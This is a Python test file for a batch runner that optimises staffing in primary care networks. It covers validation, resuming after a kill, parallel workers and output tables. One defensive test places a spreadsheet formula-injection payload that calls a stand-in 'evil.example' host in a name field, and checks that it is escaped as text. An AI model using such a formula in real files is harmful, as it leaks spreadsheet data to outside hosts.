"""Batch runs: same answers as single runs, failures isolated, resumable after a real kill, Dask = local."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from optimiser.batch import TableError, plan_batch, read_table, load_base, run_batch
from optimiser.batch.execute import start_method
from optimiser.cli import app
from optimiser.national import describe, generate_national
from optimiser.explain import InfeasibleScenario
from optimiser.pipeline import optimise
from optimiser.scenario_problems import parse_scenario

ROOT = Path(__file__).resolve().parents[1]
SAMPLE = ROOT / "scenarios" / "national" / "sample-50.csv"
BASE = ROOT / "scenarios" / "national" / "base-2026-27.yaml"
POLICIES = ["as-published", "rooms+10%"]
TIMINGS = ["worker_seconds", "solver_seconds"]


@pytest.fixture(scope="module")
def sample() -> pd.DataFrame:
    return read_table(SAMPLE)


@pytest.fixture(scope="module")
def base() -> dict:
    return load_base(BASE)


@pytest.fixture(scope="module")
def local_run(sample, base, tmp_path_factory):
    return run_batch(sample.head(12), base, POLICIES, tmp_path_factory.mktemp("local"), workers=1, formats=("csv",))


def test_batch_results_equal_single_scenario_results(local_run, sample, base):
    summary, roles = local_run.summary.set_index(["ods_code", "policy"]), local_run.roles
    plan = plan_batch(sample.head(12), base, POLICIES)
    compared = infeasible = 0
    for row in plan.rows:
        for policy in POLICIES:
            got = summary.loc[(row.pcn_id, policy)]
            try:
                result = optimise(row.scenarios[policy])
            except InfeasibleScenario as error:  # 2026/27: staff in post cost more than a few PCNs' ARRS sums
                assert got["status"] == "infeasible" and error.conflicts["explanation"].iloc[0] in got["reason"]
                infeasible += 1
                continue
            expected = result.summary()
            assert got["status"] == "optimal"
            for key, value in expected.items():
                if isinstance(value, float) or key == "rented_sessions_per_week":
                    assert got[key] == pytest.approx(float(value), rel=1e-9, abs=1e-6), key
            assert set(filter(None, got["binding_constraints"].split("; "))) == set(result.binding_constraints().index)
            mix = result.mix()
            mine = roles[(roles["ods_code"] == row.pcn_id) & (roles["policy"] == policy)].set_index("role")
            assert sorted(mine.index) == sorted(mix.index)
            for column in ("in_post_wte", "new_wte", "total_wte", "cost_gbp_per_year", "arrs_claimed_gbp_per_year", "top_up_gbp_per_year"):
                assert mine[column].to_numpy() == pytest.approx(mix.loc[mine.index, column].to_numpy(), rel=1e-9, abs=1e-9), column
            compared += 1
    assert compared + infeasible == 2 * len(plan.rows) and compared >= 20


def test_table_row_becomes_the_scenario_it_says(sample, base):
    row = plan_batch(sample.head(1), base, ["as-published"]).rows[0]
    scenario = row.scenarios["as-published"]
    first = sample.iloc[0]
    assert scenario.pcn.ods_code == first["ods_code"] and scenario.pcn.icb == first["icb"]
    assert scenario.pcn.list_size == int(first["list_size"])
    assert scenario.estate.room_sessions_per_week == float(first["room_sessions_per_week"])
    assert scenario.roles["clinical_pharmacist"].in_post_wte == float(first["in_post_wte.clinical_pharmacist"])
    assert scenario.roles["clinical_pharmacist"].max_new_wte == 3  # from the base
    rate = float(first["demand_per_1000_patients.msk"])
    assert scenario.demand["msk"].contacts_per_year == pytest.approx(rate * int(first["list_size"]) / 1000)


def _bad_table(sample: pd.DataFrame) -> pd.DataFrame:
    table = sample.head(6).copy()
    table.loc[1, "list_size"] = "-5"
    table.loc[2, "room_sessions_per_week"] = "lots"
    table.loc[3, "in_post_wte.clinical_pharmacist"] = "90"  # far more than the money pays for: infeasible
    return table


def test_validation_reports_row_column_and_reason(sample, base):
    plan = plan_batch(_bad_table(sample), base, POLICIES)
    problems = {(p.row, p.column): p.reason for p in plan.problems}
    assert problems[(3, "list_size")] == "pcn.list_size is -5 patients; give more than 0, up to 1,000,000"  # as the table says, not -5.0
    assert problems[(4, "room_sessions_per_week")] == "estate.room_sessions_per_week is 'lots'; give a number of sessions a week, 0 or more"
    assert str(plan.problems[0]).startswith("row 3 (SYN")
    assert [p.column for p in plan.problems if p.row == 3] == ["list_size"]  # not echoed by the demand rates
    assert len(plan.rows) == 4


def test_missing_and_unknown_columns_stop_before_running(sample, base):
    with pytest.raises(TableError, match="required column 'weighted_population' is missing"):
        plan_batch(sample.head(2).drop(columns="weighted_population"), base, POLICIES)
    renamed = sample.head(2).rename(columns={"in_post_wte.clinical_pharmacist": "in_post_wte.clinical_pharmacst"})
    with pytest.raises(TableError, match=f"'clinical_pharmacst' is not a role in the {base['year']} catalogue; did you mean 'clinical_pharmacist'"):
        plan_batch(renamed, base, POLICIES)
    with pytest.raises(TableError, match="'lots-of-rooms' is not a policy"):
        plan_batch(sample.head(2), base, ["lots-of-rooms"])
    twice = pd.concat([sample.head(2), sample.head(1)], ignore_index=True)
    with pytest.raises(TableError, match=f"ods_code '{sample.at[0, 'ods_code']}' is given in rows 2, 4"):
        plan_batch(twice, base, POLICIES)


def test_a_one_row_batch_says_1_pcn(sample, tmp_path):
    """The closing line counts in words a manager reads: '1 PCN × 1 policy', not '1 PCNs'."""
    table_path = tmp_path / "one.csv"
    sample.head(1).to_csv(table_path, index=False)
    result = CliRunner().invoke(app, ["batch", str(table_path), "--base", str(BASE), "--output", str(tmp_path / "out"),
                                      "--workers", "1", "--no-progress"])
    assert "1 PCN × 1 policy: 1 optimal, 0 failed" in result.output, result.output
    assert "National roll-up (1 PCN optimal under every policy)" in " ".join(result.output.split())


def test_failures_are_rows_and_the_cli_exits_4(sample, tmp_path):
    table_path = tmp_path / "pcns.csv"
    _bad_table(sample).to_csv(table_path, index=False)
    result = CliRunner().invoke(app, ["batch", str(table_path), "--base", str(BASE), "--policy", "as-published", "--policy", "no-caps",
                                      "--output", str(tmp_path / "out"), "--workers", "1", "--no-progress"])
    assert result.exit_code == 4, result.output
    assert "3 optimal" not in result.output and "6 PCNs × 2 policies: 6 optimal, 6 failed" in result.output
    failures = pd.read_csv(tmp_path / "out" / "failures.csv")
    assert sorted(failures["status"].value_counts().items()) == [("infeasible", 2), ("invalid", 4)]
    assert failures.loc[failures["row"] == 5, "reason"].str.contains("staff already in post").all()
    summary = pd.read_parquet(tmp_path / "out" / "pcn_summary.parquet")
    assert len(summary) == 12 and summary[["ods_code", "policy"]].duplicated().sum() == 0
    for name in ("national", "by_icb", "national_by_role", "comparison_by_pcn", "pcn_roles"):
        assert (tmp_path / "out" / f"{name}.csv").exists() and (tmp_path / "out" / f"{name}.parquet").exists()
    with pd.ExcelFile(tmp_path / "out" / "results.xlsx") as workbook:
        assert set(workbook.sheet_names) >= {"national", "by_icb", "pcn_summary", "failures"}

    strict = CliRunner().invoke(app, ["batch", str(table_path), "--base", str(BASE), "--output", str(tmp_path / "strict"), "--strict", "--no-progress"])
    assert strict.exit_code == 2 and not (tmp_path / "strict" / "parts").exists()


def test_resume_after_kill_9_completes_without_duplicates(tmp_path, sample):
    out, table_path = tmp_path / "out", tmp_path / "sample.csv"
    table = sample.copy()
    table.loc[3, "in_post_wte.clinical_pharmacist"] = "90"  # one PCN whose staff in post cost more than its ARRS sum
    table.to_csv(table_path, index=False)
    command = [sys.executable, "-m", "optimiser", "batch", str(table_path), "--base", str(BASE), "--output", str(out),
               "--policy", "as-published", "--policy", "no-caps", "--policy", "rooms+10%", "--workers", "1",
               "--chunk-size", "2", "--no-progress"]
    process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, cwd=ROOT)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and len(list((out / "parts").glob("summary-*.parquet"))) < 3:
        time.sleep(0.005)
    os.kill(process.pid, signal.SIGKILL)
    process.wait()
    parts_before = len(list((out / "parts").glob("summary-*.parquet")))
    assert 3 <= parts_before < 75, "the run should be killed part-way"
    assert not (out / "pcn_summary.csv").exists()

    rerun = subprocess.run(command, capture_output=True, text=True, cwd=ROOT)
    assert rerun.returncode == 4, rerun.stderr  # the sample has one infeasible PCN
    assert "already done" in rerun.stdout and " 0 already done" not in rerun.stdout
    summary = pd.read_csv(out / "pcn_summary.csv")
    assert len(summary) == 150 and summary[["ods_code", "policy"]].duplicated().sum() == 0
    roles = pd.read_csv(out / "pcn_roles.csv")
    assert roles[["ods_code", "policy", "role"]].duplicated().sum() == 0

    again = subprocess.run(command, capture_output=True, text=True, cwd=ROOT)
    assert "0 solved now, 150 already done" in again.stdout


def test_changed_row_is_run_again(sample, base, tmp_path):
    table = sample.head(3).copy()
    first = run_batch(table, base, ["as-published"], tmp_path, workers=1, formats=("csv",))
    table.loc[0, "room_sessions_per_week"] = str(float(table.loc[0, "room_sessions_per_week"]) + 5)
    second = run_batch(table, base, ["as-published"], tmp_path, workers=1, formats=("csv",))
    assert (first.ran, second.ran, second.skipped) == (3, 1, 2)
    assert len(second.summary) == 3


@pytest.fixture
def another_thread():
    """A thread of the caller's alive throughout, as in an app: worker processes then start from a fork server."""
    stop = threading.Event()
    thread = threading.Thread(target=stop.wait, daemon=True)
    thread.start()
    yield
    stop.set()
    thread.join()


def test_two_worker_processes_from_a_fork_server_give_the_local_answers(another_thread, local_run, sample, base, tmp_path):
    assert start_method() == "forkserver"
    parallel = run_batch(sample.head(12), base, POLICIES, tmp_path, workers=2, chunk_size=4, formats=("csv",))
    _same(parallel, local_run)


def test_two_forked_worker_processes_give_the_local_answers(local_run, tmp_path):
    """In a process of one thread, as the `batch` command is, the worker processes are forked; the answers, and the
    tables written from them, are the same."""
    run = (f"from optimiser.batch import load_base, read_table, run_batch\n"
           f"from optimiser.batch.execute import start_method\n"
           f"print(start_method())\n"
           f"run_batch(read_table({str(SAMPLE)!r}).head(12), load_base({str(BASE)!r}), {POLICIES!r}, {str(tmp_path)!r}, "
           f"workers=2, chunk_size=4, formats=('csv',))")
    done = subprocess.run([sys.executable, "-c", run], capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "fork"
    for table in ("pcn_summary", "pcn_roles", "national", "national_by_role", "comparison_by_pcn", "by_icb"):
        forked, local = (pd.read_parquet(folder / f"{table}.parquet") for folder in (tmp_path, local_run.output))
        pd.testing.assert_frame_equal(forked.drop(columns=TIMINGS, errors="ignore"),
                                      local.drop(columns=TIMINGS, errors="ignore"))


def test_dask_local_cluster_gives_the_local_answers(local_run, sample, base, tmp_path):
    dask = run_batch(sample.head(12), base, POLICIES, tmp_path, dask_local=2, dask_processes=False, chunk_size=4, formats=("csv",))
    _same(dask, local_run)


def test_roll_ups_are_the_same_to_the_last_bit_however_the_run_is_chunked(sample, base, tmp_path):
    """The 50 sample PCNs in chunks of 7 and of 100: sums added up block by block must not depend on the chunks (they
    differed in the 14th digit when blocks were cut by how many records each part held), or two runs of the same
    table would not compare equal."""
    small = run_batch(sample, base, POLICIES, tmp_path / "small", workers=1, chunk_size=7, formats=("parquet",))
    large = run_batch(sample, base, POLICIES, tmp_path / "large", workers=1, chunk_size=100, formats=("parquet",))
    for name in ("national", "by_icb", "national_by_role", "comparison_by_pcn"):
        pd.testing.assert_frame_equal(pd.read_parquet(small.output / f"{name}.parquet"),
                                      pd.read_parquet(large.output / f"{name}.parquet"), check_exact=True)


def _same(a, b) -> None:
    columns = ["ods_code", "policy", "status", "total_wte", "arrs_claimed_gbp_per_year", "served_contacts_per_year", "binding_constraints"]
    pd.testing.assert_frame_equal(a.summary[columns], b.summary[columns])
    pd.testing.assert_frame_equal(a.roles.drop(columns="fingerprint"), b.roles.drop(columns="fingerprint"))
    pd.testing.assert_frame_equal(a.national, b.national)
    pd.testing.assert_frame_equal(a.by_role, b.by_role)  # written by a process of its own with worker processes


def test_national_set_is_shaped_on_published_figures():
    facts = describe(generate_national())
    assert facts["pcns"] == 1250
    assert (facts["smallest_list_size"], facts["largest_list_size"]) == (14_605, 263_827)
    assert facts["registered_patients"] == pytest.approx(63.7e6, rel=0.01)
    assert facts["share_30k_to_50k"] == pytest.approx(0.58, abs=0.01)
    assert facts["arrs_total_gbp_2025_26"] == pytest.approx(1.711e9, rel=0.001)
    assert generate_national(20, seed=7).equals(generate_national(20, seed=7))


def test_bundled_sample_is_the_generators_output():
    import io

    from optimiser.national import sample as take_sample

    expected = pd.read_csv(io.StringIO(take_sample(generate_national()).to_csv(index=False)))
    pd.testing.assert_frame_equal(pd.read_csv(SAMPLE), expected)


# ---------------------------------------------------------------- hostile and careless use


def _cli(*args):
    return CliRunner().invoke(app, ["batch", *map(str, args), "--no-progress"])


def test_a_misspelt_policy_stops_before_running_with_a_suggestion(tmp_path):
    result = _cli(SAMPLE, "--base", BASE, "--output", tmp_path / "out", "--policy", "uncap:enhanced_practice_nurs", "--workers", "1")
    assert result.exit_code == 2, result.output
    assert "'enhanced_practice_nurs' is not a role" in result.output and "did you mean 'uncap:enhanced_practice_nurse'" in result.output
    assert not (tmp_path / "out" / "parts").exists()
    typo = _cli(SAMPLE, "--base", BASE, "--output", tmp_path / "out", "--policy", "no-cap", "--workers", "1")
    assert typo.exit_code == 2 and "Did you mean 'no-caps'?" in typo.output


def test_the_base_is_read_by_the_scenario_loader(tmp_path):
    twice = tmp_path / "base.yaml"
    twice.write_text('year: "2025/26"\nyear: "2024/25"\n', encoding="utf-8")
    result = _cli(SAMPLE, "--base", twice, "--output", tmp_path / "out", "--workers", "1")
    assert result.exit_code == 2 and "'year' is given twice" in result.output
    huge = tmp_path / "huge.yaml"
    huge.write_text('year: "2025/26"\n' + "# padding\n" * 200_000, encoding="utf-8")
    result = _cli(SAMPLE, "--base", huge, "--output", tmp_path / "out", "--workers", "1")
    assert result.exit_code == 2 and "larger than" in result.output


def test_a_second_batch_into_the_same_folder_is_refused_and_a_dead_ones_lock_is_taken_over(sample, base, tmp_path):
    import json

    import psutil

    lock = tmp_path / ".batch.lock"
    lock.write_text(json.dumps({"pid": os.getpid(), "started": psutil.Process().create_time(), "started_at": "2026-11-25T21:00:00+00:00"}))
    with pytest.raises(TableError, match=rf"another batch \(process {os.getpid()}, started 2026-11-25T21:00:00\+00:00\) is writing to this folder"):
        run_batch(sample.head(2), base, ["as-published"], tmp_path, workers=1, formats=("csv",))
    lock.write_text(json.dumps({"pid": 2**22 + 12345, "started": 1.0}))  # no such process: its run died
    (tmp_path / "parts").mkdir(exist_ok=True)
    stale = [tmp_path / "parts" / ".summary-1.parquet.abc.part", tmp_path / ".pcn_summary.csv.xyz.part"]
    for path in stale:
        path.write_bytes(b"half a file")
    outcome = run_batch(sample.head(2), base, ["as-published"], tmp_path, workers=1, formats=("csv",))
    assert outcome.ran == 2 and not lock.exists()
    assert not any(path.exists() for path in stale)


def test_kill_9_of_a_batch_leaves_no_worker_processes(tmp_path):
    import psutil

    out = tmp_path / "out"
    command = [sys.executable, "-m", "optimiser", "batch", str(SAMPLE), "--base", str(BASE), "--output", str(out),
               "--policy", "as-published", "--policy", "no-caps", "--policy", "rooms+10%", "--workers", "3",
               "--chunk-size", "1", "--no-progress"]
    process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, cwd=ROOT)
    deadline = time.monotonic() + 60
    children: list = []
    while time.monotonic() < deadline and not (out / "parts").exists():
        time.sleep(0.01)
    while time.monotonic() < deadline and len(children) < 2:  # its two worker processes
        children = psutil.Process(process.pid).children(recursive=True)
        time.sleep(0.01)
    assert len(children) >= 2
    os.kill(process.pid, signal.SIGKILL)
    process.wait()
    gone, alive = psutil.wait_procs(children, timeout=5)
    assert alive == [], f"{len(alive)} worker processes outlived the batch"


def test_formula_like_names_are_written_as_text(sample, base, tmp_path):
    from openpyxl import load_workbook

    table = sample.head(2).copy()
    table.loc[0, "name"] = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    table.loc[1, "ods_code"] = "@SUM(1+1)"
    run_batch(table, base, ["as-published"], tmp_path, workers=1)
    text = (tmp_path / "pcn_summary.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text and "'@SUM(1+1)" in text and "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text
    sheet = load_workbook(tmp_path / "results.xlsx")["pcn_summary"]
    cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
    assert cells['=HYPERLINK("http://evil.example/?x="&A1,"click")'] == "s" and cells["@SUM(1+1)"] == "s"
    assert pd.read_parquet(tmp_path / "pcn_summary.parquet")["pcn_name"].iloc[0].startswith("=HYPERLINK")  # data files keep the text


def test_progress_counts_every_task_and_the_workers_report_each_bad_row(sample, base, tmp_path):
    """The workers validate the rows; the parent only hashes them. 6 rows × 2 policies, chunks of 2 tasks, 2 workers:
    rows 3 and 4 are invalid (list size -5, rooms 'lots'), so 4 of the 12 tasks never run and are counted done and
    failed; row 5's staff in post cost more than its ARRS sum (infeasible under both policies). Progress ends at
    12 of 12, 6 failed, and `on_plan` gets each bad row's problem at its row and column, as `plan_batch` finds it."""
    seen, plans = [], []
    outcome = run_batch(_bad_table(sample), base, POLICIES, tmp_path, workers=2, chunk_size=2, formats=("parquet",),
                        on_progress=lambda p: seen.append((p.done, p.total, p.failed)), on_plan=lambda plan, _: plans.append(plan))
    assert seen[-1] == (12, 12, 6) and all(total == 12 for _, total, _ in seen)
    assert outcome.ran == 8 and outcome.counts == {"optimal": 6, "invalid": 4, "infeasible": 2}
    expected = plan_batch(_bad_table(sample), base, POLICIES).problems
    assert sorted(map(str, plans[0].problems)) == sorted(map(str, expected)) and len(expected) == 2


def test_the_national_roll_up_shows_the_change_of_every_measure_that_moved(local_run):
    """Every measure of the terminal's roll-up that has a change against the baseline shows it beside the policy's
    value (New WTE and Contacts unmet showed none while Total WTE and Contacts served did)."""
    from rich.console import Console

    from optimiser.batch_cli import render_rollup

    console = Console(width=200, record=True)
    console.print(render_rollup(local_run))
    lines = {line.split("│")[1].strip(): line for line in console.export_text().splitlines() if line.count("│") > 2}
    national = local_run.national.set_index("policy").loc[POLICIES[1]]
    for label, measure in (("Total WTE", "total_wte"), ("New WTE", "new_wte"), ("Contacts served, m a year", "served_contacts_per_year"),
                           ("Contacts unmet, m a year", "unmet_contacts_per_year"), ("ARRS claimed, £m a year", "arrs_claimed_gbp_per_year"),
                           ("Top-up budget used, £m a year", "top_up_used_gbp_per_year")):
        if abs(national[f"change_{measure}"]) > 1e-9:
            assert "(+" in lines[label].split("│")[-2] or "(-" in lines[label].split("│")[-2], label


def test_the_national_roll_up_shows_what_staff_in_post_cost_beyond_the_arrs_sum(local_run):
    """Staff in post beyond a PCN's ARRS sum are paid outside ARRS (£164.8m a year across England): the terminal's
    roll-up left them out, though national.csv has them."""
    from rich.console import Console

    from optimiser.batch_cli import render_rollup

    console = Console(width=200, record=True)
    console.print(render_rollup(local_run))
    national = local_run.national.set_index("policy")
    line = next(line for line in console.export_text().splitlines() if "Staff in post beyond the ARRS sum, £m a year" in line)
    assert [cell.strip() for cell in line.split("│")[2:-1]] == [f"{national.loc[p, 'in_post_beyond_arrs_gbp_per_year'] / 1e6:,.2f}" for p in POLICIES]


def test_an_invalid_row_is_listed_once_and_its_failures_are_in_the_file(sample, tmp_path):
    """A row with list_size -5 under two policies: the terminal lists it once, as the table is read, and not again
    per policy at the end; failures.csv keeps one record per policy."""
    table = sample.head(4).copy()
    table.loc[2, "list_size"] = "-5"
    path = tmp_path / "bad.csv"
    table.to_csv(path, index=False)
    command = [sys.executable, "-m", "optimiser", "batch", str(path), "--base", str(BASE), "--output", str(tmp_path / "out"),
               "--policy", "as-published", "--policy", "rooms+10%", "--workers", "1", "--no-progress"]
    done = subprocess.run(command, capture_output=True, text=True, cwd=ROOT)
    assert done.returncode == 4
    said = " ".join(done.stderr.split())
    assert said.count("list_size is -5 patients") == 1
    failures = pd.read_csv(tmp_path / "out" / "failures.csv")
    assert sorted(failures["policy"]) == ["as-published", "rooms+10%"]
